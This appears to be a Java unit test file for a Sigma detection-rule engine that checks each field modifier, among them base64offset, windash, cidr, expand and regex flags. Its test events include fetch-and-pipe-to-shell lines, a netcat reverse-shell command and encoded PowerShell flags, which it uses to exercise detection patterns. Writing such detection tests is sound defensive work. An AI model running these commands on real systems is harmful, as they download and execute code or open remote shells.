package org.citywall.detection.sigma;

import static org.assertj.core.api.Assertions.assertThat;
import static org.citywall.detection.sigma.TestRules.event;
import static org.citywall.detection.sigma.TestRules.rejection;
import static org.citywall.detection.sigma.TestRules.rule;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;

/** Every modifier of sigma-appendix-modifiers.md. */
class ModifierTest {

    private static SigmaRule field(String key, String value) {
        return rule("selection:\n    " + key + ": " + value + "\ncondition: selection\n");
    }

    @Test
    void containsStartswithEndswith() {
        assertThat(field("cmd|contains", "wget").matches(event("cmd", "sudo WGET http://x"))).isTrue();
        assertThat(field("cmd|startswith", "sudo").matches(event("cmd", "sudo wget"))).isTrue();
        assertThat(field("cmd|startswith", "sudo").matches(event("cmd", "x sudo"))).isFalse();
        assertThat(field("cmd|endswith", "/bash").matches(event("cmd", "/bin/bash"))).isTrue();
        assertThat(field("cmd|endswith", "/bash").matches(event("cmd", "/bin/bash -i"))).isFalse();
    }

    @Test
    void containsKeepsInnerWildcards() {
        assertThat(field("cmd|contains", "'curl*|*sh'").matches(event("cmd", "curl http://x/a.sh | bash"))).isTrue();
        assertThat(field("cmd|contains", "'curl*|*sh'").matches(event("cmd", "wget | sh"))).isFalse();
    }

    @Test
    void allTurnsTheListIntoAnAnd() {
        SigmaRule r = field("cmd|contains|all", "[' -e ', 'nc ']");
        assertThat(r.matches(event("cmd", "nc -e /bin/sh 1.2.3.4"))).isTrue();
        assertThat(r.matches(event("cmd", "nc 1.2.3.4"))).isFalse();
    }

    /** Whether the rule set (with its prefilter index) reports the rule for the event. */
    private static boolean indexedMatch(String key, String value, Object... event) {
        RuleSet rs = TestRules.set(TestRules.wrap("selection:\n    " + key + ": " + value + "\ncondition: selection\n"));
        assertThat(rs.rejections()).isEmpty();
        return !rs.match(event(event)).isEmpty();
    }

    @Test
    void allWithWindashNeedsEachValueInAnyOfItsDashForms() {
        String key = "cmd|windash|contains|all";
        String values = "[' -enc ', ' -nop ']";
        SigmaRule r = field(key, values);
        assertThat(r.matches(event("cmd", "powershell /nop /enc AAA"))).isTrue();
        assertThat(r.matches(event("cmd", "powershell -nop \u2013enc AAA"))).isTrue();
        assertThat(r.matches(event("cmd", "powershell -enc AAA"))).as("one value missing").isFalse();
        assertThat(indexedMatch(key, values, "cmd", "powershell /nop /enc AAA")).as("through the prefilter").isTrue();
        assertThat(indexedMatch(key, values, "cmd", "powershell /enc AAA")).isFalse();
    }

    @Test
    void allWithBase64offsetNeedsEachValueAtAnyOffset() {
        String key = "cmd|base64offset|contains|all";
        String values = "['/bin/bash', 'curl ']";
        SigmaRule r = field(key, values);
        String both = Base64.getEncoder().encodeToString("x; curl http://h | /bin/bash -i".getBytes(StandardCharsets.UTF_8));
        String one = Base64.getEncoder().encodeToString("x; wget http://h | /bin/bash -i".getBytes(StandardCharsets.UTF_8));
        assertThat(r.matches(event("cmd", both))).isTrue();
        assertThat(r.matches(event("cmd", one))).isFalse();
        assertThat(indexedMatch(key, values, "cmd", both)).as("through the prefilter").isTrue();
        assertThat(indexedMatch(key, values, "cmd", one)).isFalse();
    }

    @Test
    void allWithExpandNeedsEachValueAsAnyOfItsPlaceholderValues() {
        String key = "cmd|expand|contains|all";
        String values = "['%Admins%', 'sudo']";
        SigmaRule r = field(key, values);
        assertThat(r.matches(event("cmd", "sudo -u adm_jane id"))).isTrue();
        assertThat(r.matches(event("cmd", "sudo -u root id"))).isTrue();
        assertThat(r.matches(event("cmd", "su root"))).as("sudo missing").isFalse();
        assertThat(indexedMatch(key, values, "cmd", "sudo -u root id")).as("through the prefilter").isTrue();
    }

    @Test
    void casedMatchesCaseSensitively() {
        SigmaRule r = field("cmd|cased", "Foo");
        assertThat(r.matches(event("cmd", "Foo"))).isTrue();
        assertThat(r.matches(event("cmd", "foo"))).isFalse();
        assertThat(field("cmd|contains|cased", "ABC").matches(event("cmd", "xabcx"))).isFalse();
    }

    @Test
    void windashAcceptsEveryDashAndSlashForAFlag() {
        SigmaRule r = field("cmd|windash|contains", "' -enc '");
        assertThat(r.matches(event("cmd", "powershell -enc AAA"))).isTrue();
        assertThat(r.matches(event("cmd", "powershell /enc AAA"))).isTrue();
        assertThat(r.matches(event("cmd", "powershell \u2013enc AAA"))).isTrue();
        assertThat(r.matches(event("cmd", "powershell \u2014enc AAA"))).isTrue();
        assertThat(r.matches(event("cmd", "powershell \u2015enc AAA"))).isTrue();
        assertThat(r.matches(event("cmd", "powershell +enc AAA"))).isFalse();
    }

    @Test
    void regularExpressionsAreCaseSensitiveUnlessI() {
        assertThat(field("cmd|re", "'^a.c$'").matches(event("cmd", "abc"))).isTrue();
        assertThat(field("cmd|re", "'^a.c$'").matches(event("cmd", "ABC"))).isFalse();
        assertThat(field("cmd|re|i", "'^a.c$'").matches(event("cmd", "ABC"))).isTrue();
        assertThat(field("cmd|re", "'b+'").matches(event("cmd", "abbbc"))).as("found anywhere").isTrue();
    }

    @Test
    void regularExpressionMultilineAndDotall() {
        assertThat(field("msg|re", "'^two$'").matches(event("msg", "one\ntwo"))).isFalse();
        assertThat(field("msg|re|m", "'^two$'").matches(event("msg", "one\ntwo"))).isTrue();
        assertThat(field("msg|re", "'one.two'").matches(event("msg", "one\ntwo"))).isFalse();
        assertThat(field("msg|re|s", "'one.two'").matches(event("msg", "one\ntwo"))).isTrue();
    }

    @Test
    void base64MatchesTheEncodedValue() {
        String enc = Base64.getEncoder().encodeToString("/bin/sh".getBytes(StandardCharsets.UTF_8));
        assertThat(field("cmd|base64", "/bin/sh").matches(event("cmd", enc))).isTrue();
        assertThat(field("cmd|base64|contains", "/bin/sh").matches(event("cmd", "echo " + enc + " | base64 -d"))).isTrue();
    }

    @Test
    void base64offsetFindsTheValueAtAnyOffsetInsideEncodedText() {
        SigmaRule r = field("cmd|base64offset|contains", "/bin/bash");
        for (String prefix : new String[] {"", "x", "xy", "echo hi; "}) {
            String enc = Base64.getEncoder().encodeToString((prefix + "/bin/bash -i").getBytes(StandardCharsets.UTF_8));
            assertThat(r.matches(event("cmd", "run " + enc))).as("prefix '%s'", prefix).isTrue();
        }
        String other = Base64.getEncoder().encodeToString("/bin/zsh -i".getBytes(StandardCharsets.UTF_8));
        assertThat(r.matches(event("cmd", other))).isFalse();
    }

    @Test
    void utf16EncodingsBeforeBase64() {
        String le = Base64.getEncoder().encodeToString("cmd".getBytes(StandardCharsets.UTF_16LE));
        String be = Base64.getEncoder().encodeToString("cmd".getBytes(StandardCharsets.UTF_16BE));
        assertThat(field("x|utf16le|base64", "cmd").matches(event("x", le))).isTrue();
        assertThat(field("x|wide|base64", "cmd").matches(event("x", le))).isTrue();
        assertThat(field("x|utf16be|base64", "cmd").matches(event("x", be))).isTrue();
        byte[] bom = new byte[] {(byte) 0xff, (byte) 0xfe, 'c', 0, 'm', 0, 'd', 0};
        assertThat(field("x|utf16|base64", "cmd").matches(event("x", Base64.getEncoder().encodeToString(bom)))).isTrue();
    }

    @Test
    void cidrForIpv4AndIpv6() {
        assertThat(field("ip|cidr", "10.0.0.0/8").matches(event("ip", "10.200.1.1"))).isTrue();
        assertThat(field("ip|cidr", "10.0.0.0/8").matches(event("ip", "11.0.0.1"))).isFalse();
        assertThat(field("ip|cidr", "'2001:db8::/32'").matches(event("ip", "2001:db8:1::5"))).isTrue();
        assertThat(field("ip|cidr", "'2001:db8::/32'").matches(event("ip", "2001:db9::5"))).isFalse();
        assertThat(field("ip|cidr", "10.0.0.0/8").matches(event("ip", "not an ip"))).isFalse();
    }

    @Test
    void numericComparisons() {
        assertThat(field("n|gt", "5").matches(event("n", 6L))).isTrue();
        assertThat(field("n|gt", "5").matches(event("n", 5L))).isFalse();
        assertThat(field("n|gte", "5").matches(event("n", "5"))).isTrue();
        assertThat(field("n|lt", "5").matches(event("n", 4.5))).isTrue();
        assertThat(field("n|lte", "5").matches(event("n", 6L))).isFalse();
        assertThat(field("n|lt", "5").matches(event("n", "many"))).isFalse();
    }

    @Test
    void existsChecksPresenceOnly() {
        assertThat(field("user.name|exists", "true").matches(event("user.name", ""))).isTrue();
        assertThat(field("user.name|exists", "true").matches(event())).isFalse();
        assertThat(field("user.name|exists", "false").matches(event())).isTrue();
    }

    @Test
    void neqRequiresThePresentFieldToDifferFromEveryValue() {
        SigmaRule r = field("user.name|neq", "[root, admin]");
        assertThat(r.matches(event("user.name", "bob"))).isTrue();
        assertThat(r.matches(event("user.name", "ROOT"))).isFalse();
        assertThat(r.matches(event("user.name", "admin"))).isFalse();
        assertThat(r.matches(event())).isFalse();
        assertThat(field("n|neq", "5").matches(event("n", 5L))).isFalse();
    }

    @Test
    void fieldrefComparesTwoFieldsOfTheEvent() {
        SigmaRule r = field("user.name|fieldref", "user.target.name");
        assertThat(r.matches(event("user.name", "Bob", "user.target.name", "bob"))).isTrue();
        assertThat(r.matches(event("user.name", "bob", "user.target.name", "alice"))).isFalse();
        SigmaRule neq = field("user.name|fieldref|neq", "user.target.name");
        assertThat(neq.matches(event("user.name", "bob", "user.target.name", "alice"))).isTrue();
        SigmaRule sw = field("path|fieldref|startswith", "home");
        assertThat(sw.matches(event("path", "/home/bob/.ssh", "home", "/home/bob"))).isTrue();
    }

    @Test
    void expandReplacesPlaceholdersWithThePipelineValues() {
        SigmaRule r = field("user.name|expand", "'%Admins%'");
        assertThat(r.matches(event("user.name", "root"))).isTrue();
        assertThat(r.matches(event("user.name", "adm_jane"))).isTrue();
        assertThat(r.matches(event("user.name", "jane"))).isFalse();
        assertThat(field("user.name", "'%Admins%'").matches(event("user.name", "%admins%"))).as("literal without expand").isTrue();
    }

    @Test
    void anEscapedPercentIsPlainTextAndDoesNotStartAPlaceholder() {
        SigmaRule r = field("user.name|expand", "'\\%plain%Admins%'");
        assertThat(r.matches(event("user.name", "%plainroot"))).isTrue();
        assertThat(r.matches(event("user.name", "%plainadm_x"))).isTrue();
        assertThat(r.matches(event("user.name", "%plain%Admins%"))).isFalse();
        assertThat(field("user.name|expand", "'50\\%'").matches(event("user.name", "50%"))).isTrue();
    }

    @Test
    void anUnknownPlaceholderRejectsTheRule() {
        assertThat(rejection("selection:\n    user.name|expand: '%Nobody%'\ncondition: selection\n").reason())
                .contains("%Nobody%").contains("no values");
    }

    @Test
    void timeModifiersExtractAPartOfADate() {
        assertThat(field("'@timestamp|hour'", "3").matches(event("@timestamp", "2026-01-15T03:04:05Z"))).isTrue();
        assertThat(field("'@timestamp|hour|gte'", "22").matches(event("@timestamp", "2026-01-15T23:04:05Z"))).isTrue();
        assertThat(field("'@timestamp|hour|gte'", "22").matches(event("@timestamp", "2026-01-15T21:04:05Z"))).isFalse();
        assertThat(field("'@timestamp|minute'", "4").matches(event("@timestamp", "2026-01-15T03:04:05Z"))).isTrue();
        assertThat(field("'@timestamp|day'", "15").matches(event("@timestamp", "2026-01-15T03:04:05Z"))).isTrue();
        assertThat(field("'@timestamp|month'", "1").matches(event("@timestamp", "2026-01-15T03:04:05Z"))).isTrue();
        assertThat(field("'@timestamp|year'", "2026").matches(event("@timestamp", "2026-01-15T03:04:05Z"))).isTrue();
        assertThat(field("'@timestamp|week'", "3").matches(event("@timestamp", "2026-01-15T03:04:05Z"))).isTrue();
        assertThat(field("'@timestamp|hour'", "3").matches(event("@timestamp", 1768446245000L))).as("epoch millis").isTrue();
    }

    @Test
    void badModifierUseIsRejectedWithTheReason() {
        assertThat(rejection("s:\n    f|nosuch: x\ncondition: s\n").reason()).contains("unknown modifier 'nosuch'");
        assertThat(rejection("s:\n    f|re: '(unclosed'\ncondition: s\n").reason()).contains("invalid regular expression");
        assertThat(rejection("s:\n    f|cidr: 10.0.0.0/33\ncondition: s\n").reason()).contains("out of range");
        assertThat(rejection("s:\n    f|gt: many\ncondition: s\n").reason()).contains("not a number");
        assertThat(rejection("s:\n    f|i: x\ncondition: s\n").reason()).contains("only valid after 're'");
        assertThat(rejection("s:\n    f|exists: maybe\ncondition: s\n").reason()).contains("true or false");
        assertThat(rejection("s:\n    f|contains|exists: true\ncondition: s\n").reason())
                .contains("'contains' cannot be combined with 'exists'");
        assertThat(rejection("s:\n    f: [a, null]\ncondition: s\n").reason()).contains("null cannot be part of a list");
        assertThat(rejection("s:\n    f|base64: 'a*'\ncondition: s\n").reason()).contains("wildcards");
        assertThat(rejection("s:\n    f|contains|all: only-one\ncondition: s\n").reason()).contains("'all' needs a list of at least two values");
        assertThat(rejection("s:\n    f|contains|all: [only-one]\ncondition: s\n").reason()).contains("at least two values");
    }
}
